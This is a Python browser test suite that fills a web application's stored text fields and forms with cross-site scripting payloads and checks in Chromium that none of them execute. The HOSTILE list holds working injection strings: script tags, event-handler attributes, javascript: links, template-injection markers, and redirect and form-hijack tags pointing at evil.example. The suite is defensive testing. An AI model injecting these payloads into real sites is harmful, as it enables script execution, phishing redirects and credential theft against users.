"""Hostile words in every field that keeps any, then in front of everybody, in a real browser: words they stay.

Which columns keep what people type is found out by pressing every form of the house with a word that is nobody's.
Then hostile words stand in all of them, in every phase of a round, and each page that shows one is opened in Chromium:
nothing runs, nothing is asked of another host, the policy has nothing to forbid, and nothing breaks out of the page.
"""

import contextlib
import json
from urllib.parse import urlsplit

import pytest
import tables
from pages import read
from sqlalchemy import JSON, String, select, update

MARK = "Zq7"
RAN = "alert('ran')"
HOSTILE = [
    f"<script>{RAN}</script>",
    f'"><img src=x onerror={RAN}>',
    f"'><svg/onload={RAN}>",
    f"javascript:{RAN}",
    f'" autofocus onfocus="{RAN}" x="',
    f"' onpointerenter='{RAN}' style='position:fixed;inset:0",
    f"</title></textarea></script><script>{RAN}</script>",
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/a.css>",
    "<form action=//evil.example><button>Sign in</button>",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"%3Cscript%3E{RAN}%3C/script%3E",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"--><!--><![CDATA[<script>{RAN}</script>]]>",
    f"${{{RAN}}}`{{{{31337*3}}}}{{% raw %}}",
    f'<a href="javascript:{RAN}">look</a><object data=//evil.example>',
]
RISEN = "94011"
"""What a template inside a template would make of one of them."""

LONGEST_WORD = "W" * 90
ALIEN = (
    "iframe, object, embed, base, [onerror], [onload], [onfocus], [onpointerenter], [style], script:not([src]), style"
)
TYPED = {"text", "textarea", "search", "password", "tel", "number", "email"}

pytestmark = [
    pytest.mark.browser,
    pytest.mark.parametrize("house_at", ["https://testserver.local"], indirect=True, scope="module"),
]


def columns_that_keep_words(house, forms):
    """(table, column) of everything in which a word that was typed into some form is found afterwards."""
    found = set()
    for form in forms:
        fields = [name for name in form.fields if form.kinds[name] in TYPED]
        for names in (fields, *([name] for name in fields)):
            house.press(form, **{name: f"{MARK} {at}" for at, name in enumerate(names)})
            found |= set(marked(house)) if house.changes() else set()
            house.restore()
    return sorted(found)


def marked(house):
    with house.sessions.reading.connect() as connection:
        for table in tables.load().sorted_tables:
            for row in connection.execute(select(table)).mappings():
                yield from ((table.name, name) for name, value in row.items() if str(value).startswith(f"{MARK} "))


@pytest.fixture(scope="module")
def forms(house_at):
    found = [form for shapes in house_at.find_forms().values() for form in shapes]
    house_at.restore()
    return found


@pytest.fixture(scope="module")
def kept_in(house_at, forms):
    return columns_that_keep_words(house_at, forms)


def soak(house, kept_in, spoken):
    """Put `spoken(number)` in place of each word of these columns, wherever in the database the word stands."""
    with house.sessions.writing.begin() as connection:
        known = tables.load().tables
        words = {
            value
            for table, column in kept_in
            for value in connection.execute(select(known[table].c[column])).scalars()
            if isinstance(value, str) and len(value) > 3
        }
        # The longest first: one may be part of another.
        spoken_for = {word: spoken(at) for at, word in enumerate(sorted(words, key=len, reverse=True))}
        for table in known.values():
            _soak_table(connection, table, spoken_for)


def _soak_table(connection, table, spoken_for):
    texts = [column for column in table.columns if isinstance(column.type, String | JSON)]
    texts = [column for column in texts if not column.primary_key and not column.foreign_keys]
    for row in connection.execute(select(table)).mappings().all():
        changed = {column.name: _soaked(row[column.name], spoken_for) for column in texts}
        changed = {name: value for name, value in changed.items() if value != row[name]}
        if changed:
            same = [column == row[column.name] for column in table.primary_key.columns]
            connection.execute(update(table).where(*same).values(changed))


def _soaked(value, spoken_for):
    if not isinstance(value, str):
        text = json.dumps(value)
        return json.loads(_replaced(text, spoken_for, quoted=True)) if isinstance(value, dict | list) else value
    return _replaced(value, spoken_for, quoted=value.startswith(("{", "[")))


def _replaced(text, spoken_for, *, quoted):
    """A word that is the whole text, or in JSON a whole string of it; by way of signs that no word holds."""
    if not quoted:
        return spoken_for.get(text, text)
    for at, word in enumerate(spoken_for):
        text = text.replace(json.dumps(word, ensure_ascii=False), f'"\x00{at}"').replace(
            json.dumps(word), f'"\x00{at}"'
        )
    for at, spoken in reversed(list(enumerate(spoken_for.values()))):
        text = text.replace(f'"\x00{at}"', json.dumps(spoken))
    return text


def pages_with(house, sign):
    """(person, address) of pages that show the sign, until each place where some page shows it has been seen."""
    seen = set()
    for route in house.routes("GET"):
        for place in house.places(route):
            for person in house.visitors(route):
                reply = house.ask(person, "GET", route.at(place), look=False)
                if sign.encode() in reply.body and reply.headers.get("content-type", "").startswith("text/html"):
                    places = {(route.path, *one) for one in places_of(sign, read(reply.body.decode()))}
                    if places - seen:
                        yield person, reply.path
                    seen |= places


def places_of(sign, page):
    """Where a page shows the sign: elements by tag and class, and attributes of theirs."""
    for one in page.elements:
        if sign in one.text:
            yield one.tag, one.attributes.get("class"), ""
        yield from ((one.tag, "", name) for name, value in one.attributes.items() if sign in (value or ""))


class Watched:
    """A page in Chromium that the house itself answers, and everything about it that must not happen."""

    def __init__(self, browser, house, width=390):
        self.house, self.person, self.faults = house, "nobody", []
        self.context = browser.new_context(viewport={"width": width, "height": 844})
        self.context.route("**/*", self._answer)
        self.page = self.context.new_page()
        self.page.on("dialog", self._spoke)
        self.page.on("pageerror", lambda fault: self._note(f"a script failed: {fault}"))
        self.page.on("console", self._heard)

    def _note(self, what):
        self.faults.append(f"{self.page.url} as {self.person}: {what}")

    def _heard(self, said):
        if said.type == "error" and "responded with a status of 4" not in said.text:
            self._note(f"console: {said.text}")

    def _spoke(self, dialog):
        self._note(f"RAN: {dialog.message}")
        dialog.dismiss()

    def _answer(self, route):
        address = urlsplit(route.request.url)
        if address.netloc != urlsplit(self.house.origin).netloc:
            self._note(f"asked {route.request.url}")
            route.abort()
            return
        path = address.path + (f"?{address.query}" if address.query else "")
        reply = self.house.ask(self.person, "GET", path, look=False)
        gone = {"content-encoding", "content-length", "set-cookie"}
        headers = {name: value for name, value in reply.headers.items() if name not in gone}
        route.fulfill(status=reply.status, headers=headers, body=reply.body)

    def open(self, person, path):
        """Open a page as this person, touch what could run at a touch, and note what is on it that should not be."""
        self.person = person
        self.page.goto(self.house.origin + path, wait_until="load")
        alien = self.page.evaluate(f"document.querySelectorAll({json.dumps(ALIEN)}).length")
        if alien:
            self._note(f"{alien} elements or attributes that are not ours")
        for address in self.page.evaluate("[...document.querySelectorAll('a, form')].map(a => a.href || a.action)"):
            if str(address).startswith(("javascript:", "data:")) or "evil.example" in str(address).split("?")[0]:
                self._note(f"leads to {address}")
        if RISEN in self.page.content():
            self._note("a template was filled in twice")

    def close(self):
        self.context.close()
        return self.faults


@pytest.fixture
def watched(chromium, house_at):
    page = Watched(chromium, house_at)
    yield page
    with contextlib.suppress(Exception):
        page.context.close()
    house_at.restore()


def test_people_type_into_many_columns(house_at, kept_in):
    names = {f"{table}.{column}" for table, column in kept_in}
    assert {"proposal.title", "proposal.what", "proposal.reason", "round.name", "agency.name"} <= names, names


def test_hostile_words_are_shown_everywhere_and_run_nowhere(house_at, kept_in, watched):
    soak(house_at, kept_in, lambda at: f"{HOSTILE[at % len(HOSTILE)]} {MARK}{at}")
    opened = list(pages_with(house_at, MARK))
    assert len({path for _, path in opened}) > 60
    for person, path in opened:
        watched.open(person, path)
    assert not watched.close()


def test_a_form_that_is_shown_again_with_hostile_words_runs_nothing(house_at, forms, watched):
    """What was refused stands in its fields again; what came from an old page is carried in hidden ones.

    No policy protects these pages here: what broke out would run, and be seen.
    """
    faults = []
    for form in forms:
        typed = [name for name in form.fields if form.kinds[name] in TYPED | {"hidden"}]
        for token in ("genuine", "old"):
            changes = dict.fromkeys(typed, "".join(HOSTILE)) | ({"form_token": "old"} if token == "old" else {})
            reply = house_at.press(form, **changes)
            house_at.restore()
            faults += [f"{form.path}: {reply.fault}"] * bool(reply.fault)
            page = watched.page
            page.set_content(reply.body.decode()) if reply.page else None
            if reply.page and page.evaluate(f"document.querySelectorAll({json.dumps(ALIEN)}).length"):
                faults.append(f"{form.path}: something broke out of its field")
    assert not faults + watched.close()


def test_very_long_words_push_no_page_out_of_a_telephone(house_at, kept_in, watched):
    soak(house_at, kept_in, lambda at: f"{LONGEST_WORD}{MARK}{at}")
    wide = []
    for person, path in pages_with(house_at, MARK):
        watched.open(person, path)
        reached = watched.page.evaluate("document.documentElement.scrollWidth")
        wide += [f"{path} as {person} reaches to {reached}"] * (reached > 390)
    assert not wide, "\n".join(wide)


@pytest.mark.parametrize(
    ("policy", "wanted"),
    [({}, "RAN"), ({"content-security-policy": "default-src 'self'"}, "Content Security Policy")],
)
def test_what_would_run_is_seen(chromium, house_at, policy, wanted):
    """The same eyes on a page without escaping and without policy, and on one that the policy alone protects."""
    page = Watched(chromium, house_at)
    body = f"<!doctype html><title>x</title><p>{HOSTILE[0]}{HOSTILE[1]}<img src=//evil.example/x>"

    def control(route):
        route.fulfill(status=200, headers={"content-type": "text/html", **policy}, body=body)

    page.context.route("**/control", control)
    page.open("nobody", "/control")
    faults = " ".join(page.close())
    assert wanted in faults
    assert "not ours" in faults
